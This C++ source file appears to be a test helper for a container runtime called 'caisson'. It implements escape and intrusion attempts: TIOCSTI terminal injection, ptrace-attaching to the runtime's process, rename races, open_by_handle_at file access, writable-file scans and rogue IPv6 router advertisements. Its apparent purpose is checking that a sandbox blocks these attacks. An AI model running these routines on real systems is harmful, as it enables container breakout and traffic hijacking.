// What a hostile program in a container tries. Static, so that it runs anywhere.
// Usage: attacker tiocsti TEXT          push text into the terminal on descriptor 0
//        attacker seize                 for ever: attach to, and look into, every new process
//        attacker exchange A B          for ever: swap two names
//        attacker writable DIR...       print every file below that opens for writing
//        attacker keyring               print the session keyring's number
//        attacker handle FILE           open a file by its handle
//        attacker open FILE             open it for reading
//        attacker socket FAMILY         make a datagram or seqpacket socket
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include <string>

static int fail(const char* what) {
  fprintf(stderr, "%s: %s\n", what, strerror(errno));
  return 1;
}

static void writable(const std::string& folder) {
  DIR* dir = opendir(folder.c_str());
  if (dir == nullptr) return;
  while (struct dirent* e = readdir(dir)) {
    std::string name = e->d_name, path = folder + "/" + name;
    if (name == "." || name == ".." || e->d_type == DT_LNK) continue;
    // One process stands for all.
    if (folder == "/proc" && name.find_first_not_of("0123456789") == std::string::npos && name != "1") continue;
    if (e->d_type == DT_DIR) {
      writable(path);
    } else if (int fd = open(path.c_str(), O_WRONLY | O_NONBLOCK | O_NOFOLLOW | O_NOCTTY); fd >= 0) {
      // What is masked is the null device.
      struct stat st;
      if (fstat(fd, &st) == 0 && !(S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3))) puts(path.c_str());
      close(fd);
    }
  }
  closedir(dir);
}

static int seize() {
  long seen = 0, caught = 0;
  setvbuf(stdout, nullptr, _IONBF, 0);
  puts("ready");
  for (pid_t next = 2;; ++next) {
    if (next > 1000) next = 2;
    if (next == getpid() || kill(next, 0) != 0) continue;
    ++seen;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", next);
    bool looked = false;
    if (DIR* dir = opendir(path)) {
      looked = true;
      closedir(dir);
    }
    snprintf(path, sizeof path, "/proc/%d/exe", next);
    // The runtime's own program or memory: what an attacker wants. The
    // application that it becomes is the container's, and may be looked at.
    char exe[256] = {};
    ssize_t n = readlink(path, exe, sizeof exe - 1);
    bool runtime = n > 0 && (strstr(exe, "caisson") != nullptr || strstr(exe, "memfd:") != nullptr);
    if (runtime && looked) printf("caught %ld of %ld: %s\n", ++caught, seen, exe);
    if (runtime && ptrace(PTRACE_ATTACH, next, 0, 0) == 0) printf("attached to %s\n", exe);
  }
}

/// A router advertisement (RFC 4861) that makes this container everybody's gateway.
static int advertise(const char* interface) {
  int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  if (fd < 0) return fail("socket");
  int hops = 255, index = static_cast<int>(if_nametoindex(interface));
  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
  unsigned char advertisement[16] = {134, 0, 0, 0, 64, 0, 0x07, 0x08};
  sockaddr_in6 all = {};
  all.sin6_family = AF_INET6;
  all.sin6_scope_id = static_cast<uint32_t>(index);
  inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
  // The link-local address takes its time.
  for (int i = 0; i < 30; ++i) {
    if (sendto(fd, advertisement, sizeof advertisement, 0, reinterpret_cast<sockaddr*>(&all), sizeof all) > 0) puts("sent");
    usleep(100'000);
  }
  return 0;
}

int main(int argc, char** argv) {
  std::string mode = argc > 1 ? argv[1] : "";
  if (mode == "tiocsti") {
    for (const char* c = argv[2]; *c != 0; ++c)
      if (ioctl(0, TIOCSTI, c) < 0) return fail("TIOCSTI");
    return 0;
  }
  if (mode == "seize") return seize();
  if (mode == "advertise") return advertise(argv[2]);
  if (mode == "exchange")
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
  if (mode == "writable") {
    for (int i = 2; i < argc; ++i) writable(argv[i]);
    return 0;
  }
  if (mode == "keyring") {
    long number = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    if (number < 0) return fail("keyctl");
    printf("%ld\n", number);
    return 0;
  }
  if (mode == "handle") {
    struct {
      struct file_handle head;
      char room[128];
    } handle = {};
    handle.head.handle_bytes = sizeof handle.room;
    int mount_id, mount = open(argv[2], O_RDONLY);
    if (name_to_handle_at(AT_FDCWD, argv[2], &handle.head, &mount_id, 0) < 0) return fail("name_to_handle_at");
    return open_by_handle_at(mount, &handle.head, O_RDONLY) < 0 ? fail("open_by_handle_at") : 0;
  }
  if (mode == "open") return open(argv[2], O_RDONLY | O_NONBLOCK) < 0 ? fail(argv[2]) : 0;
  if (mode == "socket") return socket(atoi(argv[2]), SOCK_SEQPACKET, 0) < 0 && socket(atoi(argv[2]), SOCK_DGRAM, 0) < 0 ? fail("socket") : 0;
  return 2;
}
